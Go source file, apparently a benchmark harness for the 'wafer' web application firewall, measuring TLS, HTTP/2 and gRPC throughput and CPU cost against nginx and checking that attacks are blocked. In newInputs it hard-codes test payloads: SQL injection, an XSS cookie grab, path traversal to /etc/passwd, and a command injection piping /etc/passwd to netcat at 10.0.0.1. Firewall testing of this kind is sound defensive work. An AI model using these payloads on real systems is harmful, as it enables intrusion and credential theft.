package main

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"net/http"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/wafer-waf/wafer/test/corpus"
	"golang.org/x/net/http2/hpack"
)

// way is how a server is asked.
type way struct {
	name string
	load func(ctx context.Context, s *site, o options, v *secured, in *inputs) (loaded, error)
}

// The ways, those in clear text first: what TLS adds is the difference.
var ways = []way{
	{"h1", func(ctx context.Context, s *site, o options, v *secured, in *inputs) (loaded, error) {
		return wrkLoad(ctx, o, s.dir, "http://"+v.addr, in.pages)
	}},
	{"h1 tls", func(ctx context.Context, s *site, o options, v *secured, in *inputs) (loaded, error) {
		return wrkLoad(ctx, o, s.dir, "https://"+v.tls, in.pages)
	}},
	{"h2", func(ctx context.Context, _ *site, o options, v *secured, in *inputs) (loaded, error) {
		return load2(ctx, o, v.clear2, nil, in.pages2)
	}},
	{"h2 tls", func(ctx context.Context, _ *site, o options, v *secured, in *inputs) (loaded, error) {
		return load2(ctx, o, v.tls, trusting("h2"), in.pages2)
	}},
	{"grpc", func(ctx context.Context, _ *site, o options, v *secured, in *inputs) (loaded, error) {
		return load2(ctx, o, v.clear2, nil, in.calls)
	}},
	{"grpc tls", func(ctx context.Context, _ *site, o options, v *secured, in *inputs) (loaded, error) {
		return load2(ctx, o, v.tls, trusting("h2"), in.calls)
	}},
	{"connection", func(ctx context.Context, _ *site, o options, v *secured, in *inputs) (loaded, error) {
		return connect(ctx, o, v.addr, func() *tls.Config { return nil }, in, false)
	}},
	{"handshake", func(ctx context.Context, _ *site, o options, v *secured, in *inputs) (loaded, error) {
		return connect(ctx, o, v.tls, curves(tls.X25519), in, false)
	}},
	{"handshake hybrid", func(ctx context.Context, _ *site, o options, v *secured, in *inputs) (loaded, error) {
		return connect(ctx, o, v.tls, curves(tls.X25519MLKEM768, tls.X25519), in, false)
	}},
	{"resumed", func(ctx context.Context, _ *site, o options, v *secured, in *inputs) (loaded, error) {
		return connect(ctx, o, v.tls, curves(tls.X25519), in, true)
	}},
}

// curves are clients that offer those key exchanges, each with sessions of its own.
func curves(offered ...tls.CurveID) func() *tls.Config {
	return func() *tls.Config {
		c := trusting("http/1.1")
		c.CurvePreferences, c.ClientSessionCache = offered, tls.NewLRUClientSessionCache(4)
		return c
	}
}

// inputs are what is sent.
type inputs struct {
	pages  pool // of HTTP/1.1
	pages2 []message2
	calls  []message2
	// Of each, attacks; those of pages that HTTP/2 can say.
	attacks      pool
	attacks2     []message2
	attacksCalls []message2
}

func newInputs(pages, attacks pool) (*inputs, error) {
	in := &inputs{pages: pages, attacks: attacks}
	for _, r := range in.pages.list {
		m, err := translate(r)
		if err != nil {
			return nil, fmt.Errorf("%w:\n%.300s", err, r.raw)
		}
		in.pages2 = append(in.pages2, m)
	}
	for _, r := range in.attacks.list {
		if m, err := translate(r); err == nil {
			in.attacks2 = append(in.attacks2, m)
		}
	}
	if n := len(in.attacks.list); len(in.attacks2) < n/2 {
		return nil, fmt.Errorf("only %d of %d attacks can be said in HTTP/2", len(in.attacks2), n)
	}
	for i := range variants {
		in.calls = append(in.calls, newCall(fmt.Sprintf("order-%d", i), "two pairs of shoes, size "+fmt.Sprint(30+i%20), false))
	}
	for _, attack := range []string{"1' OR 1=1 UNION SELECT password FROM users --", "<script>alert(document.cookie)</script>", "../../../../etc/passwd", "; cat /etc/passwd | nc 10.0.0.1 99"} {
		in.attacksCalls = append(in.attacksCalls, newCall("order-1", attack, true))
	}
	return in, nil
}

// newCall is a call with one message of two texts.
func newCall(id, note string, attack bool) message2 {
	text := func(field byte, s string) string { return string([]byte{field<<3 | 2, byte(len(s))}) + s }
	m := text(1, id) + text(2, note)
	return message2{
		fields: []hpack.HeaderField{
			{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: serverName},
			{Name: ":path", Value: "/shop.Orders/Create"}, {Name: "content-type", Value: "application/grpc"},
			{Name: "te", Value: "trailers"}, {Name: "user-agent", Value: "grpc-go/1.76.0"},
		},
		body: append([]byte{0, 0, 0, 0, byte(len(m))}, m...), attack: attack,
	}
}

// secure measures what TLS, HTTP/2 and gRPC cost.
func secure(ctx context.Context, o options) error {
	ctx, cancel := context.WithTimeout(ctx, o.limit())
	defer cancel()
	began := time.Now()
	nginx := nginxPath()
	here, err := describe(ctx, o, nginx, "libssl3")
	if err != nil {
		return err
	}
	pools, err := poolsOf(amount{only("get", "get"), variants}, amount{only("attack", corpus.Attack), variants})
	if err != nil {
		return err
	}
	s, err := newSite(ctx)
	if err != nil {
		return err
	}
	defer s.close()
	servers, err := s.startSecure(ctx, o, nginx)
	if err != nil {
		return err
	}
	if err := dropOdd(s, servers[len(servers)-1].server, pools); err != nil {
		return err
	}
	in, err := newInputs(pools[0], pools[1])
	if err != nil {
		return err
	}
	if err := in.pages.save(poolFile(s.dir, in.pages)); err != nil {
		return err
	}
	say("verifying every answer")
	for _, v := range servers {
		if err := v.verify(in, s.backend); err != nil {
			return err
		}
	}
	var all []throughput
	for repetition := range o.Repetitions {
		for _, w := range ways {
			for _, v := range servers {
				m, err := measureWay(ctx, o, s, v, w, in)
				if err != nil {
					return err
				}
				m.Repetition = repetition + 1
				say("%d/%d %-17s %-12s %8.0f/s %9.1f µs CPU", m.Repetition, o.Repetitions, w.name, v.name, m.PerSecond, m.CPUMicros)
				all = append(all, m)
			}
		}
	}
	here.LoadAfter, here.Minutes = loadAverage(), round(time.Since(began).Minutes(), 1)
	return errors.Join(write(o.out, "secure-machine", here), writeList(o.out, "secure", all))
}

func (s *site) startSecure(ctx context.Context, o options, nginx string) (list []*secured, err error) {
	cert, key, err := s.certificate()
	if err != nil {
		return nil, err
	}
	calls, err := s.startCalls(ctx)
	if err != nil {
		return nil, err
	}
	v, err := s.startSecureNginx(ctx, nginx, calls, cert, key)
	if err != nil {
		return nil, err
	}
	list = append(list, v)
	for _, mode := range []string{"off", "block"} {
		if v, err = s.startSecureWafer(ctx, o.wafer, mode, calls, cert, key); err != nil {
			return nil, err
		}
		list = append(list, v)
	}
	return list, nil
}

// verify has a server answer everything in every way: attacks are refused by who inspects, all else is answered as the
// applications do.
func (v *secured) verify(in *inputs, backend string) error {
	for _, p := range []pool{in.pages, in.attacks} {
		clear := *v.server
		if err := verify(&clear, p, backend); err != nil {
			return err
		}
		c := &client{addr: v.tls, tls: trusting("http/1.1")}
		for _, r := range p.list {
			if status, err := c.do(r.raw); err != nil || !v.rightly(r, status) {
				return fmt.Errorf("verify %s by TLS: %d, %w:\n%.300s", v.name, status, err, r.raw)
			}
		}
		c.close()
	}
	for _, c := range []struct {
		addr string
		tls  *tls.Config
	}{{v.clear2, nil}, {v.tls, trusting("h2")}} {
		for _, list := range [][]message2{in.pages2, in.attacks2, in.calls, in.attacksCalls} {
			if err := v.verify2(c.addr, c.tls, list); err != nil {
				return fmt.Errorf("verify %s: %w", v.name, err)
			}
		}
	}
	return nil
}

// verify2 is verify of one list by HTTP/2. What the application says to a call is what it was told.
func (v *secured) verify2(addr string, secure *tls.Config, list []message2) error {
	var k *client2
	defer func() {
		if k != nil {
			_ = k.Close()
		}
	}()
	for i := range list {
		m := &list[i]
		if k == nil {
			var err error
			if k, err = dial2(addr, secure); err != nil {
				return err
			}
			k.keep = true
		}
		a, err := k.do(m)
		if err != nil && m.attack && v.inspects && strings.Contains(err.Error(), "reset") { // what cannot be read is no request
			_ = k.Close()
			k = nil
			continue
		}
		if err != nil {
			return fmt.Errorf("request %d, %v: %w", i, m.fields, err)
		}
		if !v.rightly(request{attack: m.attack}, a.status) {
			return fmt.Errorf("request %d: status %d: %v %q", i, a.status, m.fields, m.body)
		}
		if calls := strings.HasPrefix(m.fields[3].Value, "/shop.Orders/"); calls && a.status == http.StatusOK && string(a.body) != string(m.body) {
			return fmt.Errorf("call %d: not what the application has said", i)
		}
	}
	return nil
}

// measureWay loads a server in one way.
func measureWay(ctx context.Context, o options, s *site, v *secured, w way, in *inputs) (m throughput, err error) {
	v.settle()
	began, used, busy := time.Now(), cpuTime(v.pids), coreBusy(serverCore)
	r, err := w.load(ctx, s, o, v, in)
	if err != nil {
		return m, fmt.Errorf("%s, %s: %w", v.name, w.name, err)
	}
	if r.Refused > 0 {
		return m, fmt.Errorf("%s, %s: %d of %d answers were refusals", v.name, w.name, r.Refused, r.Requests)
	}
	v.settle()
	used, busy = cpuTime(v.pids)-used, coreBusy(serverCore)-busy
	return throughput{
		Server: v.name, AccessLog: "off", Request: w.name, Loader: r.Loader, Requests: r.Requests,
		PerSecond:  round(float64(r.Requests)/(float64(r.Micros)/1e6), 1),
		CPUMicros:  round(micros(used)/float64(r.Requests+r.Unanswered), 2),
		CoreShare:  round(used.Seconds()/(float64(r.Micros)/1e6), 3),
		OtherShare: round(max(0, (busy-used).Seconds()/time.Since(began).Seconds()), 3),
	}, nil
}

func wrkLoad(ctx context.Context, o options, dir, url string, p pool) (loaded, error) {
	r, err := wrk(ctx, o, dir, url, p, o.Connections, o.Seconds)
	return loaded{Requests: r.Requests, Refused: r.Status400, Micros: r.Micros, Unanswered: o.Connections, Loader: "wrk"}, err
}

// streams2 is how many requests are under way on each connection of HTTP/2, of which there are a quarter of those of HTTP/1.1.
const streams2 = 4

// load2 keeps streams busy until time is up.
func load2(ctx context.Context, o options, addr string, secure *tls.Config, list []message2) (loaded, error) {
	var next atomic.Int64
	errs := make([]error, max(1, o.Connections/streams2))
	var wg sync.WaitGroup
	began := time.Now()
	length := time.Duration(o.Seconds) * time.Second
	for i := range errs {
		wg.Go(func() {
			k, err := dial2(addr, secure)
			if err != nil {
				errs[i] = err
				return
			}
			defer k.Close()
			one := func() error { return k.send(&list[int(next.Add(1)-1)%len(list)]) }
			for range streams2 {
				errs[i] = errors.Join(errs[i], one())
			}
			for errs[i] == nil && len(k.open) > 0 {
				a, err := k.receive()
				switch {
				case err != nil:
					errs[i] = err
				case a.status != http.StatusOK:
					errs[i] = fmt.Errorf("status %d", a.status)
				case time.Since(began) < length && ctx.Err() == nil:
					errs[i] = one()
				}
			}
		})
	}
	wg.Wait()
	return loaded{Requests: int(next.Load()), Micros: int(time.Since(began).Microseconds()), Loader: "closed loop"}, errors.Join(errs...)
}

// connect makes connections, one after the other on each of a few threads, asks once on each and closes it.
func connect(ctx context.Context, o options, addr string, configs func() *tls.Config, in *inputs, resumed bool) (loaded, error) {
	var made atomic.Int64
	errs := make([]error, o.Inspected)
	var wg sync.WaitGroup
	began := time.Now()
	for i := range errs {
		wg.Go(func() {
			c := configs()
			for n := 0; errs[i] == nil && time.Since(began) < time.Duration(o.Seconds)*time.Second && ctx.Err() == nil; n++ {
				if c != nil && !resumed {
					c.ClientSessionCache = nil
				}
				errs[i] = askAnew(addr, c, in.pages.list[n%len(in.pages.list)].raw, resumed && n > 0)
				made.Add(1)
			}
		})
	}
	wg.Wait()
	return loaded{Requests: int(made.Load()), Micros: int(time.Since(began).Microseconds()), Loader: "closed loop"}, errors.Join(errs...)
}

// askAnew asks once on a connection of its own.
func askAnew(addr string, c *tls.Config, raw []byte, resumed bool) error {
	k := &client{addr: addr, tls: c}
	defer k.close()
	status, err := k.do(raw)
	switch {
	case err != nil:
		return err
	case status != http.StatusOK:
		return fmt.Errorf("status %d", status)
	}
	if secured, ok := k.conn.(*tls.Conn); ok && secured.ConnectionState().DidResume != resumed {
		return fmt.Errorf("a session went on: %v, want %v", !resumed, resumed)
	}
	return nil
}
